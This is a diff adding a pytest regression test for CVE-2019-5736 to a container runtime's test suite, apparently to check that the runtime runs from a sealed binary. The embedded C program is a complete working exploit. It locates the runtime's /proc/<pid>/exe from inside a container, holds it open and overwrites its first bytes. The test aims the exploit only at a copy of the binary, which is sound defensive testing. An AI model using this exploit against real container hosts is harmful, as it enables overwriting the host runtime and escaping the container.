@@ -6,7 +6,12 @@ noNewPrivileges, a container overwriting the runtime binary through /proc/<pid>/
 """
 from __future__ import annotations
 
+import hashlib
 import os
+import re
+import shutil
+import subprocess
+from pathlib import Path
 
 import pytest
 
@@ -51,3 +56,146 @@ def test_seccomp_leaves_no_new_privs_as_configured(runtime, nnp, runtime_bin, tm
     seen = h.parse_kv(proc.stdout.replace(":\t", "="))
     assert seen["NoNewPrivs"] == ("1" if nnp else "0"), proc.stdout
     assert seen["euid"] == ("65534" if nnp else "0"), proc.stdout
+
+
+# The CVE-2019-5736 attack, as a container's init.  /tmp/target is a script whose
+# interpreter is /proc/self/exe: exec'ing it from a process that still runs the runtime's
+# binary runs that binary again, now as a container process the attacker may inspect.  Its
+# --log names a FIFO, so it blocks opening the log until we have taken hold of its
+# /proc/<pid>/exe (O_PATH); once no process executes the file any more (ETXTBSY gone) we
+# reopen it for writing through that descriptor and write over its first bytes.  Every step
+# goes to /out/report.
+ATTACK_C = r"""
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+static void report(const char *fmt, ...) {
+  char buf[4200];
+  va_list ap;
+  va_start(ap, fmt);
+  int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
+  va_end(ap);
+  buf[n++] = '\n';
+  int fd = open("/out/report", O_WRONLY | O_APPEND | O_CREAT, 0644);
+  if (write(fd, buf, n) < 0) _exit(3);
+  close(fd);
+}
+
+static void pause_ms(long ms) {
+  struct timespec ts = {0, ms * 1000000L};
+  nanosleep(&ts, NULL);
+}
+
+int main(void) {
+  if (mkfifo("/tmp/log.fifo", 0600) < 0) { report("mkfifo: %s", strerror(errno)); return 1; }
+  int t = open("/tmp/target", O_WRONLY | O_CREAT | O_TRUNC, 0755);
+  const char script[] = "#!/proc/self/exe --log=/tmp/log.fifo\n";
+  if (t < 0 || write(t, script, sizeof script - 1) < 0) { report("target: %s", strerror(errno)); return 1; }
+  close(t);
+  char self[4096];
+  ssize_t sn = readlink("/proc/self/exe", self, sizeof self - 1);
+  self[sn > 0 ? sn : 0] = '\0';
+  report("ready");
+  int exe = -1;
+  char link[4096] = "";
+  while (exe < 0) {
+    DIR *d = opendir("/proc");
+    for (struct dirent *e; d && exe < 0 && (e = readdir(d));) {
+      char p[64];
+      if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid()) continue;
+      snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
+      ssize_t n = readlink(p, link, sizeof link - 1);
+      if (n <= 0) continue; /* not ours to inspect (yet) */
+      link[n] = '\0';
+      if (strcmp(link, self) == 0) continue;
+      exe = open(p, O_PATH | O_CLOEXEC);
+    }
+    if (d) closedir(d);
+    if (exe < 0) pause_ms(1);
+  }
+  report("holding %s", link);
+  /* let the stuck runtime write its log line and exit */
+  int fifo = open("/tmp/log.fifo", O_RDONLY);
+  char buf[512];
+  while (read(fifo, buf, sizeof buf) > 0) {}
+  close(fifo);
+  char fdpath[64];
+  snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", exe);
+  for (int i = 0; i < 20000; i++) {
+    int w = open(fdpath, O_WRONLY | O_CLOEXEC);
+    if (w < 0 && errno == ETXTBSY) { pause_ms(1); continue; }
+    if (w < 0) { report("open for writing: %s", strerror(errno)); break; }
+    ssize_t n = pwrite(w, "PWNED", 5, 0);
+    report(n == 5 ? "overwrote the runtime" : "write: %s", strerror(errno));
+    close(w);
+    break;
+  }
+  report("done");
+  for (;;) pause();
+}
+"""
+
+
+@pytest.mark.parametrize("runtime,seal", [
+    ("provision-runtime", "readonly-clone"),
+    ("provision-runtime", "memfd"),  # the fallback where open_tree/mount_setattr are missing
+    pytest.param("runc", "", marks=RUNTIMES[1].marks),
+])
+def test_exec_cannot_overwrite_the_runtime_binary(runtime, seal, runtime_bin, tmp_path):
+    """CVE-2019-5736: a container whose process is exec'd while the runtime's own binary
+    still runs in it reopens that binary through /proc/<pid>/exe and writes to it.  The
+    runtime must be running from a sealed binary by then, so the host binary stays intact.
+    The attack targets a copy of the binary (so a vulnerable runtime ruins only the copy)."""
+    r = RT(runtime, runtime_bin, tmp_path / "state")
+    rootfs = h.make_rootfs(tmp_path / "rootfs")
+    h.compile_static(ATTACK_C, rootfs / "bin" / "attack")
+    copy_shared_libraries(r.exe, rootfs)  # as in any glibc-based image: the runtime can start there
+    out = tmp_path / "out"
+    out.mkdir()
+
+    def config(cfg):
+        cfg["mounts"].append({"destination": "/out", "type": "bind", "source": str(out), "options": ["rbind"]})
+    b = bundle(tmp_path, rootfs, args=["/bin/attack"], config=config)
+    victim = tmp_path / f"{runtime}-copy"
+    shutil.copy2(r.exe, victim)
+    before = sha256(victim)
+    report = out / "report"
+    cid = r.new_id()
+    try:
+        r.cli("create", "--bundle", b, cid)
+        r.cli("start", cid)
+        h.wait_for(lambda: report.exists() and "ready" in report.read_text(), what="the attacker to be ready")
+        env = dict(os.environ, _PROVISION_RUNTIME_SEAL=seal)
+        subprocess.run([str(victim), "--root", str(r.root), "exec", cid, "/tmp/target"],
+                       capture_output=True, timeout=30, stdin=subprocess.DEVNULL, env=env)
+        h.wait_for(lambda: "done" in report.read_text(), timeout=30, what="the attack to finish")
+    finally:
+        r.cleanup()
+    steps = report.read_text()
+    assert "holding " in steps, steps  # the attack really got hold of the runtime's exe
+    if seal:
+        assert ("memfd:" in steps) == (seal == "memfd"), steps
+    assert "overwrote the runtime" not in steps, steps
+    assert sha256(victim) == before, steps
+
+
+def copy_shared_libraries(binary: str, rootfs: Path) -> None:
+    """The dynamic loader and libraries binary needs, at the same paths under rootfs."""
+    out = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout  # none if static
+    for lib in re.findall(r"(/\S+) \(0x", out):
+        dest = rootfs / lib.lstrip("/")
+        dest.parent.mkdir(parents=True, exist_ok=True)
+        shutil.copy2(os.path.realpath(lib), dest)
+
+
+def sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
